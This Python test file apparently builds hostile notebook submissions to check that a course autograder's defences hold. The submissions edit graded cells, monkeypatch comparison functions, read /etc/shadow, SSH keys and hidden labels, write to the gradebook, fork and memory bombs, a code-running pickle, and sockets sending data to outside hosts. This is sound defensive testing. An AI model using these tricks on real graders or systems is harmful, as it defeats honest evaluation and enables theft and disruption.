"""One hostile submission per threat in the autograder's threat model.

Each attack starts from the released notebook (an all-wrong submission: every answer cell still
raises ``NotImplementedError``) and adds one attack. Many attacks would *earn points if a defence
failed* (they try to read hidden labels, the reference answers or the gradebook and answer with
them), so "scores 0" really tests the defence. Attack code gets the host paths it aims at from
:class:`Ctx`, as an insider would know them.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat

AUTO_TASKS = ("ckd_rate", "egfr", "ckd_model")


@dataclass
class Ctx:
    course: str  # host path of the course directory
    data_root: str  # host path of the data root (public/ and hidden/)
    secret: str  # a token placed in the grader's environment
    port: int  # a TCP port the test listens on (host loopback)
    canary: str  # host folder an attack tries to write into
    key_file: str = ""  # host path of the data key the hidden split was drawn with


@dataclass
class Attack:
    name: str
    threat: str
    build: Callable[[nbformat.NotebookNode, Ctx], dict]  # -> {filename: notebook|bytes|str}
    flags: set[str] = field(default_factory=set)  # tamper kinds the report must show
    status: str | None = "graded"  # expected status (None: any)


def _cell(nb: nbformat.NotebookNode, gid: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def _index(nb: nbformat.NotebookNode, gid: str) -> int:
    return next(
        i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid
    )


def _answer(nb, gid: str, code: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    _cell(nb, gid).source = textwrap.dedent(code).strip() + "\n"
    return nb


def _nb(nb) -> dict:
    return {"pilot.ipynb": nb}


# --- editing, deleting, duplicating, re-typing graded cells; metadata, points, tags ----------


def edit_check(nb, ctx):
    nb = _answer(nb, "ckd_rate_answer", "ckd_rate = 0.5")
    _cell(nb, "ckd_rate").source = "print('skipped the check')"
    return _nb(nb)


def delete_check(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    del nb.cells[_index(nb, "egfr")]
    return _nb(nb)


def duplicate_check(nb, ctx):
    nb = _answer(
        nb,
        "ckd_model_answer",
        "from sklearn.dummy import DummyClassifier\nmodel = DummyClassifier()",
    )
    copy = nbformat.from_dict(json.loads(json.dumps(_cell(nb, "ckd_model"))))
    copy.source = "check('ckd_model', model, X)\ncheck('ckd_rate', 0.5)"
    nb.cells.insert(_index(nb, "ckd_model"), copy)
    return _nb(nb)


def retype_check(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    i = _index(nb, "ckd_rate")
    old = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
    return _nb(nb)


def change_points(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    meta = _cell(nb, "ckd_model").metadata.nbgrader
    meta["points"] = 100
    meta["locked"] = False
    _cell(nb, "ckd_rate").metadata.nbgrader["grade"] = False
    return _nb(nb)


def skip_tags(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    for gid in AUTO_TASKS:
        c = _cell(nb, gid)
        c.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
        c.metadata["papermill"] = {"exception": True}
    return _nb(nb)


def rename_grade_id(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    _cell(nb, "egfr").metadata.nbgrader["grade_id"] = "egfr_mine"
    return _nb(nb)


# --- hooking IPython, objects equal to anything, monkeypatching ------------------------------


def ipython_hooks(nb, ctx):
    code = """
    ip = get_ipython()
    # every later cell becomes a no-op, and `check` records a value of our choosing
    ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    import medai.autograder.lab as lab
    _orig = lab.check
    lab.check = lambda task, value, *a: _orig(task, 0.5)
    ip.events.register("pre_run_cell", lambda info: None)
    ckd_rate = 0.5
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def equal_to_anything(nb, ctx):
    code = """
    class AlwaysEqual:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __float__(self): return 0.5
        __hash__ = object.__hash__
    class SneakyFloat(float):
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        def __abs__(self): return 0.0
    ckd_rate = SneakyFloat(0.9)
    """
    nb = _answer(nb, "ckd_rate_answer", code)
    nb = _answer(nb, "egfr_answer", "def egfr(creat_umol, age, male):\n    return AlwaysEqual()")
    return _nb(nb)


def monkeypatch_libs(nb, ctx):
    code = """
    import math, numpy, sklearn.metrics
    numpy.isclose = numpy.allclose = lambda *a, **k: True
    math.isclose = lambda *a, **k: True
    sklearn.metrics.roc_auc_score = lambda *a, **k: 1.0
    import medai.autograder.scoring as scoring
    scoring.values_match = lambda *a, **k: True
    scoring.metric_fraction = lambda *a, **k: 1.0
    from sklearn.dummy import DummyClassifier
    model = DummyClassifier(strategy="prior")
    """
    return _nb(_answer(nb, "ckd_model_answer", code))


# --- reading secrets: hidden labels, tests, solutions, reference, other students, env --------


def read_secrets(nb, ctx):
    code = f"""
    import glob, os, pathlib
    found = {{}}
    targets = [
        {ctx.data_root!r} + "/hidden/ehr/outcomes_test.csv",
        {ctx.course!r} + "/source/pilot/pilot.ipynb",
        {ctx.course!r} + "/grading/pilot/reference.json",
        {ctx.course!r} + "/gradebook.db",
        "/etc/shadow", "/root/.bash_history", "/root/.ssh/id_rsa",
    ]
    targets += glob.glob({ctx.course!r} + "/submitted/*/pilot/pilot.ipynb")
    for top, dirs, files in os.walk("/"):
        if top == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev")]
        dirs[:] = [d for d in dirs if d != "site-packages"]  # library test fixtures are no secret
        targets += [os.path.join(top, f) for f in files if f in ("outcomes_test.csv", "outcomes_test.parquet", "reference.json", "gradebook.db", "truth.csv")]
    for t in targets:
        try:
            found[t] = pathlib.Path(t).read_bytes()[:200]
        except Exception as e:
            pass
    env = dict(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                env[pid] = open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace")
            except Exception:
                pass
    print("FOUND", sorted(found), "ENV", env)
    # if the hidden labels were readable, answer with them: perfect predictions
    labels = {ctx.data_root!r} + "/hidden/ehr/outcomes_test.csv"
    import pandas as pd
    from sklearn.base import BaseEstimator, ClassifierMixin
    class Cheat(BaseEstimator, ClassifierMixin):
        def fit(self, X, y):
            self.classes_ = numpy.array([0, 1]); return self
        def predict_proba(self, X):
            truth = pd.read_csv(labels).set_index("patient_id")["ckd_5y"]
            p = truth.reindex(X.index).fillna(0).to_numpy(float)
            return numpy.c_[1 - p, p]
    import numpy
    model = Cheat()
    """
    return _nb(_answer(nb, "ckd_model_answer", code))


def regenerate_labels(nb, ctx):
    # the generator, the lab's N_PATIENTS and SEED and the public default seed are all public:
    # regenerate the cohort (with the data key, if it can be found) and look the labels up
    code = f"""
    import os, pathlib, numpy, pandas as pd
    from medai.synthetic import generate
    from sklearn.base import BaseEstimator, ClassifierMixin
    key = None
    candidates = [{ctx.key_file!r}, {ctx.data_root!r} + "/../secrets/data.key"]
    import sys, time
    # every file the sandbox can see, but for the kernel's own and the Python installs (300k
    # files, all from packages: walking them cold took most of the 30 s limit under load)
    software = {{"/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix),
                os.path.realpath(sys.base_prefix)}}
    t0, walked = time.monotonic(), 0
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in software]
        walked += len(files)
        candidates += [os.path.join(top, f) for f in files if f.endswith(".key")]
    print("WALKED", walked, "FILES IN", round(time.monotonic() - t0, 1), "S")
    t0 = time.monotonic()
    for path in candidates:
        try:
            key = bytes.fromhex(pathlib.Path(path).read_text().strip())
            break
        except Exception:
            pass
    print("KEY FOUND", key is not None)
    lookup = {{}}
    for i, (n, seed) in enumerate([(N_PATIENTS, SEED), (None, 20261123), (N_PATIENTS, 20261123)]):
        generate("ehr", f"/scratch/regen{{i}}", n=n, seed=seed, secret=key)
        t = pd.read_csv(f"/scratch/regen{{i}}/hidden/ehr/outcomes_test.csv")
        for pid, y in zip(t["patient_id"], t["ckd_5y"]):
            lookup.setdefault(pid, float(y))
    wanted = patients.loc[patients["split"] == "test", "patient_id"]
    print("LOOKED UP", sum(pid in lookup for pid in wanted), "OF", len(wanted),
          "IN", round(time.monotonic() - t0, 1), "S")
    class Regenerated(BaseEstimator, ClassifierMixin):
        def fit(self, X, y):
            self.classes_ = numpy.array([0, 1]); return self
        def predict_proba(self, X):
            p = numpy.array([lookup.get(pid, 0.0) for pid in X.index])
            return numpy.c_[1 - p, p]
    model = Regenerated()
    """
    return _nb(_answer(nb, "ckd_model_answer", code))


# --- writing outside the sandbox, leaving files behind ---------------------------------------


def write_outside(nb, ctx):
    code = f"""
    import os, sqlite3, pathlib
    results = {{}}
    def attempt(label, fn):
        try:
            fn(); results[label] = "WROTE"
        except Exception as e:
            results[label] = type(e).__name__
    def gradebook():
        db = sqlite3.connect({ctx.course!r} + "/gradebook.db")
        db.execute("UPDATE grade SET auto_score = 100"); db.commit()
    attempt("gradebook", gradebook)
    for target in [{ctx.canary!r} + "/pwned.txt", {ctx.course!r} + "/pwned.txt",
                   {ctx.course!r} + "/source/pilot/tasks.yaml", {ctx.data_root!r} + "/public/ehr/patients.csv",
                   "/work/main/medai/autograder/scoring.py", "/usr/pwned", "/job/job.json", "/data/pwned",
                   "/etc/passwd", "/pwned"]:
        attempt(target, lambda t=target: pathlib.Path(t).write_text("pwned"))
    print(results)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def leave_files(nb, ctx):
    code = """
    import os, pathlib
    # files that would change how a later submission is graded, if anything persisted
    pathlib.Path("tasks.yaml").write_text("lab: pilot\\ntasks: {}\\n")
    pathlib.Path("sitecustomize.py").write_text("raise SystemExit")
    pathlib.Path(os.path.expanduser("~/.ipython/profile_default/startup")).mkdir(parents=True, exist_ok=True)
    pathlib.Path(os.path.expanduser("~/.ipython/profile_default/startup/00.py")).write_text("raise SystemExit")
    pathlib.Path("/tmp/medai-planted.py").write_text("planted")
    pathlib.Path("medai").mkdir(exist_ok=True)
    pathlib.Path("medai/__init__.py").write_text("raise SystemExit")
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


# --- killing or stalling the grader; loops and bombs -----------------------------------------


def kill_grader(nb, ctx):
    code = """
    import os, signal
    for pid in range(1, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except Exception:
                pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except Exception:
        pass
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def stall(nb, ctx):
    return _nb(_answer(nb, "ckd_rate_answer", "import time\ntime.sleep(10**6)"))


def signal_ignoring_loop(nb, ctx):
    code = """
    import signal
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        try:
            pass
        except BaseException:
            pass
    """
    return _nb(_answer(nb, "egfr_answer", code))


def memory_bomb(nb, ctx):
    code = """
    hog = []
    try:
        while True:
            hog.append(bytearray(256 * 1024 * 1024))
    except MemoryError:
        print("memory limit hit after", len(hog), "blocks")
    del hog
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def process_bomb(nb, ctx):
    code = """
    import os, time
    n = 0
    try:
        for _ in range(100000):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            n += 1
    except OSError as e:
        print("process limit hit after", n, "forks:", e)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def disk_bomb(nb, ctx):
    code = """
    import os
    block = b"x" * (1 << 20)
    for name in ("big.bin", "/tmp/big.bin"):
        try:
            with open(name, "wb") as fh:
                for _ in range(4096):
                    fh.write(block)
        except OSError as e:
            print("file size limit:", e)
    try:
        for i in range(10000):
            with open(f"many{i}.bin", "wb") as fh:
                for _ in range(32):
                    fh.write(block)
    except OSError as e:
        print("scratch full after", i, "files:", e)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def output_bomb(nb, ctx):
    code = """
    import os
    for _ in range(2000):
        print("spam " * 20000)
    chunk = b"y" * (1 << 20)
    while True:
        os.write(1, chunk)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def result_flood(nb, ctx):
    code = """
    import os
    fd = int(os.environ.get("MEDAI_RESULT_FD", "3"))
    os.write(fd, b'{"type": "check", "task": "ckd_rate", "nb": "pilot.ipynb", "cell": 6, "value": {"t": "float", "v": 0.5}}\\n')
    os.write(fd, b'{"type": "check", "task": "ckd_model", "value": {"t": "ndarray", "npy": "gASVAAAA"}}\\nnot json\\n')
    junk = b"z" * (1 << 20)
    while True:
        os.write(fd, junk)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def forged_pickle(nb, ctx):
    code = """
    import base64, io, os, pickle, numpy as np
    class Evil:
        def __reduce__(self):
            return (os.system, ("touch /tmp/medai-pickle-ran",))
    buf = io.BytesIO()
    np.save(buf, np.array([Evil()], dtype=object), allow_pickle=True)
    import medai.autograder.lab as lab
    g = lab._grading
    g.emit({"type": "check", "task": "ckd_model", "nb": g.nb, "cell": 12,
            "value": {"t": "series", "index": ["a"], "npy": base64.b64encode(buf.getvalue()).decode()}})
    g.emit({"type": "check", "task": "egfr", "nb": g.nb, "cell": 9, "value": {"t": "list", "v": [{"t": "weird"}]}})
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


def forged_records(nb, ctx):
    """Every malformed shape a sandbox record can take, on the result pipe: lines that are not
    JSON, not UTF-8 or nested past any parser's depth; records whose fields have the wrong
    types; a single oversized value; plain values of a shape no scorer takes. Each must end
    as a clean verdict for this submission (0 points, a message), never a grader error."""
    code = """
    import json, os
    import medai.autograder.lab as lab
    g = lab._grading
    fd = int(os.environ.get("MEDAI_RESULT_FD", "3"))
    os.write(fd, b"this is not json\\n")
    os.write(fd, b'{"type": "cell", "nb": "pilot.ipynb", "index": 1, "ok": true, "stdout": "\\xff\\xfe"}\\n')
    os.write(fd, b'\\xff\\xfe\\xfd\\n')
    os.write(fd, b"[" * 200_000 + b"\\n")
    os.write(fd, b'{"a": ' * 50_000 + b"1" + b"}" * 50_000 + b"\\n")
    for rec in (
        {"type": "cell", "nb": ["pilot.ipynb"], "index": {"i": 1}, "ok": "yes"},
        {"type": "cell", "nb": "pilot.ipynb", "index": 6, "ok": False, "error": {"e": [1]}},
        {"type": "cell", "nb": "pilot.ipynb", "index": True, "ok": True, "seconds": "1e999"},
        {"type": "check", "task": ["ckd_rate"], "nb": "pilot.ipynb", "cell": 6, "value": 1},
        {"type": "check", "task": "egfr", "nb": "pilot.ipynb", "cell": 9, "error": [1, 2]},
        [1, 2, 3],
        "a string",
    ):
        os.write(fd, json.dumps(rec).encode() + b"\\n")
    real = g.emit
    def forge(rec):
        if rec.get("type") == "check" and rec.get("task") == "ckd_model":
            strings = {"t": "list", "v": [{"t": "str", "v": "x"}]}
            rec = dict(rec, value={"t": "dict", "v": {"index": strings, "values": strings}})
            rec.pop("error", None)
        if rec.get("type") == "check" and rec.get("task") == "ckd_rate":
            rec = dict(rec, value={"t": "str", "v": "9" * 20_000_000})
            rec.pop("error", None)
        if rec.get("type") == "check" and rec.get("task") == "egfr":
            rec = dict(rec, value={"t": "list", "v": [{"t": "dict", "v": {"k": {"t": "int", "v": 1}}}] * 40})
            rec.pop("error", None)
        real(rec)
    g.emit = forge
    from sklearn.dummy import DummyClassifier
    ckd_rate, model = 0.5, DummyClassifier()  # so that the check cells record (forged) values
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


# --- network ---------------------------------------------------------------------------------


def network(nb, ctx):
    code = f"""
    import socket, urllib.request
    for host, port in [("127.0.0.1", {ctx.port}), ("10.0.2.2", 80), ("1.1.1.1", 443), ("pypi.org", 443)]:
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"exfiltrated")
            print("CONNECTED", host)
        except Exception as e:
            print("blocked", host, type(e).__name__)
    """
    return _nb(_answer(nb, "ckd_rate_answer", code))


# --- bad input -------------------------------------------------------------------------------


def invalid_json(nb, ctx):
    return {"pilot.ipynb": nbformat.writes(nb)[:500]}


def wrong_nbformat(nb, ctx):
    data = json.loads(nbformat.writes(nb))
    data["nbformat"] = 3
    return {"pilot.ipynb": json.dumps(data)}


def missing_notebook(nb, ctx):
    return {"notes.txt": "I forgot to save my notebook"}


def renamed_notebook(nb, ctx):
    return {"pilot-final.ipynb": nb}


def huge_notebook(nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    nb.cells.append(nbformat.v4.new_markdown_cell("x" * 3_000_000))
    return _nb(nb)


def extra_files(nb, ctx):
    files = _nb(nb)
    files["helper.py"] = "print('hello')"
    files["big.bin"] = b"\0" * 5_000_000
    return files


ATTACKS: list[Attack] = [
    Attack("edit_check", "editing a graded cell", edit_check, {"edited"}),
    Attack("delete_check", "deleting a graded cell", delete_check, {"deleted"}),
    Attack("duplicate_check", "duplicating a graded cell", duplicate_check, {"duplicated"}),
    Attack("retype_check", "re-typing a graded cell", retype_check, {"retyped"}),
    Attack("change_points", "changing points and nbgrader metadata", change_points, {"metadata"}),
    Attack("skip_tags", "tags that make executors skip cells", skip_tags, {"tags", "metadata"}),
    Attack(
        "rename_grade_id", "re-pointing a graded cell", rename_grade_id, {"unknown-id", "deleted"}
    ),
    Attack("ipython_hooks", "hooking the IPython machinery", ipython_hooks),
    Attack("equal_to_anything", "objects that compare equal to anything", equal_to_anything),
    Attack("monkeypatch_libs", "monkeypatching the libraries checks use", monkeypatch_libs),
    Attack(
        "read_secrets", "reading hidden labels, tests, solutions, others, secrets", read_secrets
    ),
    Attack("regenerate_labels", "regenerating the hidden labels", regenerate_labels),
    Attack("write_outside", "writing to the gradebook or outside the scratch space", write_outside),
    Attack("leave_files", "leaving files behind for later submissions", leave_files),
    Attack("kill_grader", "killing the grader", kill_grader, status=None),
    Attack("stall", "stalling the grader", stall, status="timeout"),
    Attack("signal_loop", "signal-ignoring infinite loop", signal_ignoring_loop, status=None),
    Attack("memory_bomb", "memory bomb", memory_bomb),
    Attack("process_bomb", "process bomb", process_bomb),
    Attack("disk_bomb", "disk bomb", disk_bomb),
    Attack("output_bomb", "output bomb", output_bomb, status="output-limit"),
    Attack(
        "result_flood",
        "flooding and forging the result channel",
        result_flood,
        status="output-limit",
    ),
    Attack("forged_pickle", "forged records carrying a pickle", forged_pickle),
    Attack("forged_records", "malformed records of every kind", forged_records),
    Attack("network", "reaching the network", network),
    Attack("invalid_json", "invalid JSON", invalid_json, status="invalid"),
    Attack("wrong_nbformat", "wrong nbformat", wrong_nbformat, status="invalid"),
    Attack("missing_notebook", "missing notebook", missing_notebook, status="invalid"),
    Attack("renamed_notebook", "renamed notebook", renamed_notebook, status="invalid"),
    Attack("huge_notebook", "huge notebook", huge_notebook, status="invalid"),
    Attack("extra_files", "extra and huge files", extra_files),
]
